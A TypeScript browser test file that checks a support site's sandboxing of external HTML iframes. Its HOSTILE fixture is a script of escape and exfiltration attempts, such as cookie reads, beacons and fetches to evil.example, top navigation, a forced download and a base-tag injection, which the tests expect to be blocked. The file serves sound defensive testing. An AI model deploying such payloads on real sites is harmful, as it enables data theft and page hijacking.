import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { launchBrowser } from "#scripts/setup/browser.ts";
import type { Identity } from "#src/identity/identity.ts";
import { externalHtml } from "#src/modules/external-html/external-html.ts";
import { externalContentPage } from "#src/page-types/external-content.ts";
import { fileReply } from "#src/page-types/file-reply.ts";
import { loadPage } from "#src/page-types/load-page.ts";
import { productPage } from "#src/page-types/product.ts";
import { composePolicy } from "#src/server/render/content-security-policy.ts";
import { copyOfAgentsPack } from "#tests/fixtures/agents-pack.ts";
import { CANARY } from "#tests/fixtures/canary.ts";
import { embeddedApi } from "#tests/fixtures/embedded-api.ts";
import { contextFor, renderModule } from "#tests/modules/render.ts";

/**
 * The frame of external HTML in a real browser. Nobody can sign in from outside, so the page and its frame come from
 * the site's own parts with an agent's identity, under the policies that they are sent with.
 */

const AGENT: Identity = { kind: "agent", id: "1", company: "Repairs", accessLevel: "3" };
const ORIGIN = "https://support.example";
const PAGE = "/electronics/support/speakers/pebble-20";
const FRAME = `/electronics/support/external-content/${CANARY}-tool`;

/** What a hostile author writes: each line of the list is a way out, and what came of it. */
const HOSTILE = `<p id="here">Torque tool</p><button type="button">Turn</button><ul id="ways"></ul><script>
const says = (way, outcome) => { const row = document.createElement("li"); row.textContent = way + ": " + outcome; ways.append(row); };
const tries = (way, act) => { try { says(way, act() === undefined ? "nothing" : "reached"); } catch (error) { says(way, error.name); } };
const waits = (way, act) => act().then(() => says(way, "reached"), (error) => says(way, error.name));
says("origin", self.origin);
tries("parent", () => parent.document.title);
tries("top", () => top.location.href);
tries("cookie", () => document.cookie);
tries("storage", () => localStorage.length);
if (top !== self) tries("navigation", () => { top.location = "https://evil.example/"; });
tries("popup", () => open("https://evil.example/") ?? undefined);
waits("fetch", () => fetch("/api/content/support/en_GB/brand"));
waits("elsewhere", () => fetch("https://evil.example/", { mode: "no-cors" }));
const image = new Image();
image.onload = () => says("image", "reached"); image.onerror = () => says("image", "refused"); image.src = "https://evil.example/x.png";
document.body.append(image);
const form = document.createElement("form"); form.action = "https://evil.example/"; form.target = "_top"; document.body.append(form); if (top !== self) form.submit();
tries("alert", () => alert("Sign in again"));
tries("opener", () => opener ?? undefined);
waits("worker", async () => navigator.serviceWorker.register("/sw.js"));
tries("beacon", () => void navigator.sendBeacon("https://evil.example/?torque=40"));
for (const [rel, as] of [["preload", "image"], ["prefetch", ""], ["stylesheet", ""], ["modulepreload", ""], ["icon", ""]]) {
	const link = document.createElement("link"); link.rel = rel; if (as) link.as = as; link.href = "https://evil.example/" + rel; document.head.append(link);
}
for (const name of ["iframe", "embed", "object", "video", "audio", "script"]) {
	const element = document.createElement(name); element.tabIndex = -1; element[name === "object" ? "data" : "src"] = "https://evil.example/" + name; document.body.append(element);
}
const base = document.createElement("base"); base.href = "https://evil.example/"; document.head.append(base);
const own = document.createElement("iframe"); own.tabIndex = -1; own.src = "/electronics/support/speakers/pebble-20"; document.body.append(own);
const file = document.createElement("a"); file.download = "torque.exe"; file.href = "data:application/octet-stream,x"; file.click();
parent.postMessage({ type: "support", href: "https://evil.example/" }, "*");
document.querySelector("button").onclick = () => { says("click", "worked"); };
</script>`;

let browser: Browser;
let copy: ReturnType<typeof copyOfAgentsPack>;
let page: Page;
let asked: string[];

beforeAll(async () => {
	copy = copyOfAgentsPack();
	copy.write(`external-content/${CANARY}-tool.html`, HOSTILE);
	const content = await copy.open();
	const snapshot = embeddedApi(content).support.snapshot();
	const load = (type: Parameters<typeof loadPage>[0], path: string) =>
		loadPage(type, {
			...{ identity: AGENT, snapshot, context: contextFor({ path }), origin: ORIGIN },
			...{
				receipts: async () => ({ state: "unknown" }),
				onViewFailure: () => {},
				onInlineTexts: () => {},
				request: null,
				form: null,
				waysIn: { passwords: true, signOn: null },
			},
		});
	const { modules } = await load(productPage, "/speakers/pebble-20");
	const own = modules.find(({ module }) => module.name === externalHtml.name);
	const html = await renderModule(externalHtml, own?.data, { path: "/speakers/pebble-20" });
	const framed = fileReply(await load(externalContentPage, `/external-content/${CANARY}-tool`));
	const frame = { headers: Object.fromEntries(framed.headers), body: await framed.text() };
	const style = ".external-html iframe{display:block;inline-size:100%}";
	const frames = modules.some(({ module, data }) => module.frames(data));
	const policy = composePolicy({
		styles: [style],
		scripts: [],
		frameParents: [],
		frames,
		formTarget: null,
		secure: true,
	});
	const body = `<!doctype html><html lang="en"><title>Product</title><style>${style}</style><a href="#a">before</a>${html}<a href="#b">after</a>`;
	snapshot.release();

	browser = await launchBrowser();
	const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
	await context.addCookies([{ name: "secret", value: "1", url: ORIGIN }]);
	page = await context.newPage();
	asked = [];
	await context.route("**/*", (route) => {
		const { href, pathname, origin } = new URL(route.request().url());
		if (origin === ORIGIN && pathname === PAGE)
			return route.fulfill({ headers: { "content-type": "text/html", "content-security-policy": policy }, body });
		if (origin === ORIGIN && pathname === FRAME) return route.fulfill(frame);
		asked.push(href);
		return route.fulfill({ body: "" });
	});
});
afterAll(async () => {
	await browser?.close();
	copy?.cleanUp();
});

const waysOf = (at: Pick<Page, "locator">) => at.locator("#ways li").allTextContents();
const CLOSED = [
	"origin: null",
	"parent: SecurityError",
	"top: SecurityError",
	"cookie: SecurityError",
	"storage: SecurityError",
	"navigation: SecurityError",
	"popup: nothing",
	"fetch: TypeError",
	"elsewhere: TypeError",
	"image: refused",
	"alert: nothing",
	"opener: nothing",
	"beacon: nothing",
	"worker: SecurityError",
];

test("the frame runs its own script with an origin of nobody's, and nothing of it gets out", async () => {
	const taken: string[] = [];
	page.on("download", (file) => taken.push(file.suggestedFilename()));
	await page.goto(ORIGIN + PAGE);
	await page.locator("iframe").scrollIntoViewIfNeeded();
	const frame = page.frameLocator("iframe");
	await expect.poll(async () => (await waysOf(frame)).sort()).toEqual([...CLOSED].sort());
	// Its own frame it may leave, but for no other origin.
	await page.frames()[1]?.evaluate(() => {
		location.href = "https://evil.example/?torque=40";
	});
	await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
	expect([page.url(), await page.title(), page.context().pages().length]).toEqual([ORIGIN + PAGE, "Product", 1]);
	// No frame of its own either, not even of a page of ours, and no file of its making.
	expect([
		asked,
		taken,
		page
			.frames()
			.slice(2)
			.filter((each) => each.url().startsWith(ORIGIN)),
	]).toEqual([[], [], []]);
});

test("it has its height, its title, and the focus goes in and out of it", async () => {
	await page.goto(ORIGIN + PAGE);
	const frame = page.frameLocator("iframe");
	expect(await page.locator("iframe").getAttribute("title")).toBe(`${CANARY} tool`);
	expect(await page.locator("iframe").evaluate((element) => element.clientHeight)).toBe(240);
	expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
	const focused = () =>
		page.evaluate(() => document.activeElement?.textContent?.trim() || document.activeElement?.localName);
	await page.locator("a").first().focus();
	await page.keyboard.press("Tab");
	expect(await focused()).toBe("iframe");
	await page.keyboard.press("Enter");
	await expect.poll(() => waysOf(frame)).toContain("click: worked");
	await page.keyboard.press("Tab");
	expect(await focused()).toBe("after");
});

test("typed into the address bar it is as shut in, and no page but ours may frame it", async () => {
	const alone = await page.context().newPage();
	onTestFinished(() => alone.close());
	await alone.goto(ORIGIN + FRAME);
	await expect
		.poll(() => waysOf(alone))
		.toEqual(expect.arrayContaining(["origin: null", "cookie: SecurityError", "fetch: TypeError"]));
	await alone.route("https://other.example/", (route) =>
		route.fulfill({ contentType: "text/html", body: `<iframe src="${ORIGIN}${FRAME}"></iframe>` }),
	);
	await alone.goto("https://other.example/");
	await expect.poll(() => alone.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
});
